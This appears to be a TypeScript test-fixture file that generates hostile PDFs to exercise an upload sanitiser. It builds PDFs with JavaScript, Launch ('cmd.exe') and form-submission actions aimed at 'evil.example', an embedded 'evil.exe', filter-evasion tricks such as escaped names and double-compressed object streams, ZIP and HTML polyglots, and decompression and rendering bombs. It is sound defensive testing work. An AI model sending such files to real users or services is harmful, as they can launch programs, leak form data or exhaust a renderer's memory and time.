import { buffer } from 'node:stream/consumers'
import { deflateSync } from 'node:zlib'
import Pdf from 'pdfkit'
import { cleaned, HTML, MARK, refused, zip, type HostileUpload } from './hostile-parts.ts'
import type { Random } from './random.ts'
import { pagesPdf, pdfStream, pdfWith, plainPdf } from './uploads.ts'

const ACTIONS = [
  `/OpenAction << /S /JavaScript /JS (app.alert\\("${MARK}"\\)) >>`,
  '/OpenAction [3 0 R /Fit]',
  `/AA << /WC << /S /JavaScript /JS (${MARK}) >> >>`,
  `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${MARK}) >>] >> >>`,
  '/Names << /EmbeddedFiles << /Names [(evil.exe) 5 0 R] >> >>',
  '/X << /S /Launch /F (cmd.exe) >>',
  '/X << /S /SubmitForm /F (https://evil.example) >>',
  '/X << /S /URI /URI (https://evil.example) >>',
  '/X << /S /GoToR /F (x.pdf) /D [0 /Fit] >>',
  '/X << /Subtype /RichMedia >>',
  '/AcroForm << /XFA 5 0 R >>',
]

/** Escapes random letters of PDF names: `/JavaScript` becomes, for example, `/J#61vaScript`. */
const escapedNames = (random: Random, text: string): string =>
  text.replaceAll(/\/([A-Za-z0-9]+)/g, (_whole, name: string) => {
    const at = random.int(0, name.length - 1)
    const escape = (letter: string) =>
      `#${letter.charCodeAt(0).toString(16)[random.chance(0.5) ? 'toUpperCase' : 'toLowerCase']()}`
    return `/${Array.from(name, (letter, index) => (index === at || random.chance(0.3) ? escape(letter) : letter)).join('')}`
  })

const objectStream = (action: string, between: string): Buffer => {
  const packed = deflateSync(Buffer.from(`9 0 << ${action} >>`))
  const stream = pdfStream('/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', packed).toString('latin1')
  return Buffer.from(stream.replace('stream\n', `stream${between}\n`), 'latin1')
}

const twicePacked = (action: string): Buffer =>
  pdfStream(
    '/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]',
    deflateSync(deflateSync(Buffer.from(`9 0 << ${action} >>`))),
  )

const OBFUSCATION_FILTERS: Record<string, (random: Random, action: string) => Buffer> = {
  plainly: (_random, action) => pdfWith({ catalog: action, objects: [pdfStream('', HTML)] }),
  'with escaped names': (random, action) => pdfWith({ catalog: escapedNames(random, action) }),
  'in a compressed object': (_random, action) => pdfWith({ objects: [objectStream(action, '')] }),
  'in a compressed object after a space': (_random, action) => pdfWith({ objects: [objectStream(action, ' ')] }),
  'in a compressed object after a tab': (_random, action) => pdfWith({ objects: [objectStream(action, '\t')] }),
  'in a twice compressed object': (_random, action) => pdfWith({ objects: [twicePacked(action)] }),
  'in a later revision': (_random, action) =>
    Buffer.concat([
      plainPdf(),
      Buffer.from(`1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${action} >>\nendobj\nstartxref\n9\n%%EOF\n`),
    ]),
}

const acting = (random: Random): HostileUpload[] =>
  Object.entries(OBFUSCATION_FILTERS).map(([how, disguise]) =>
    cleaned(`a PDF with actions, ${how}`, disguise(random, ACTIONS.join(' ')), random.pick(['national-id', 'license'])),
  )

const lockedPdf = async (): Promise<Buffer> => {
  const made = new Pdf({ userPassword: 'secret', ownerPassword: 'secret too' })
  made.text(MARK).end()
  return buffer(made)
}

const carrying = (): HostileUpload[] => [
  cleaned('a PDF with a ZIP behind it', Buffer.concat([plainPdf(), zip()]), 'license'),
  cleaned('a PDF with a ZIP inside', pdfWith({ objects: [pdfStream('', zip())] }), 'license'),
  cleaned('a PDF with HTML behind it', Buffer.concat([plainPdf(), HTML]), 'license'),
  cleaned('a PDF with a huge page', pdfWith({ box: '[0 0 1e9 1e9]' }), 'license'),
  cleaned('a PDF with a page of no size', pdfWith({ box: '[0 0 0 0]' }), 'license'),
  cleaned('a PDF with a page of 1 × 14,400 points', pdfWith({ box: '[0 0 1 14400]' }), 'license'),
  cleaned('a PDF with pages of every shape', pagesPdf(['[0 0 9 200]', '[0 0 300 20]', '[0 0 200 200]']), 'license'),
]

/**
 * PDFs that must be refused, and PDFs with actions, attachments or strange pages, of which only the picture may be
 * stored.
 */
export const hostilePdfs = async (random: Random): Promise<HostileUpload[]> => [
  ...acting(random),
  ...carrying(),
  refused('a locked PDF', await lockedPdf(), 'license'),
  refused('a PDF of five pages', pagesPdf(Array.from({ length: 5 }, () => '[0 0 200 200]')), 'license'),
  refused('a PDF of ten thousand pages', pagesPdf(Array.from({ length: 10_000 }, () => '[0 0 9 9]')), 'license'),
  refused('a PDF whose pages contain themselves', pdfWith({ pages: '/Kids [2 0 R 2 0 R] /Count 2' }), 'license'),
  refused('a PDF without a page', pdfWith({ pages: '/Kids [] /Count 0' }), 'license'),
  refused('a PDF without an end', Buffer.from('%PDF-1.7\n'), 'license'),
  refused('a PDF of noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5000, 0xa5)]), 'license'),
  refused('a PDF with HTML before it', Buffer.concat([HTML, plainPdf()]), 'license'),
  refused('a PDF that begins after a line break', Buffer.concat([Buffer.from('\n'), plainPdf()]), 'license'),
]

const form = (next: number, content: string): Buffer =>
  pdfStream(
    `/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /F ${next} 0 R >> >>`,
    Buffer.from(content),
  )

const LEVELS = 12
// The number of the first object after the catalog, the pages, the page and its content.
const FIRST = 5

const drawing = (content: Buffer, resources: string, objects: Buffer[]): Buffer =>
  pdfWith({ page: `/Contents 4 0 R /Resources << ${resources} >>`, objects: [content, ...objects] })

const nestedForms = (): Buffer =>
  drawing(
    pdfStream('', Buffer.from('/F Do')),
    '/XObject << /F 5 0 R >>',
    Array.from({ length: LEVELS }, (_, level) => form(FIRST + level + 1, '/F Do '.repeat(10))),
  )

const pattern = (next: number): Buffer =>
  pdfStream(
    `/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 3 3] /XStep 1 /YStep 1 /Resources << /Pattern << /P ${next} 0 R >> >>`,
    Buffer.from('/Pattern cs /P scn 0 0 200 200 re f '.repeat(5)),
  )

/** A PDF that a renderer practically never finishes: each pattern draws the next one many times. */
export const endlessPdf = (): Buffer =>
  drawing(
    pdfStream('', Buffer.from('/Pattern cs /P scn 0 0 200 200 re f')),
    '/Pattern << /P 5 0 R >>',
    Array.from({ length: LEVELS }, (_, level) => pattern(FIRST + level + 1)),
  )

const inflating = (bytes: number): Buffer =>
  drawing(pdfStream('/Filter /FlateDecode', deflateSync(Buffer.alloc(bytes, ' '))), '', [])

/** PDFs of less than 1 MB that would take too much memory or time to render. */
export const pdfBombs = (): [name: string, bytes: Buffer][] => [
  ['a PDF with a page of 300 MB', inflating(300_000_000)],
  [
    'a PDF with a form that draws itself',
    drawing(pdfStream('', Buffer.from('/F Do')), '/XObject << /F 5 0 R >>', [form(5, '/F Do /F Do')]),
  ],
  ['a PDF with forms on 12 levels, each of which draws the next one 10 times', nestedForms()],
]
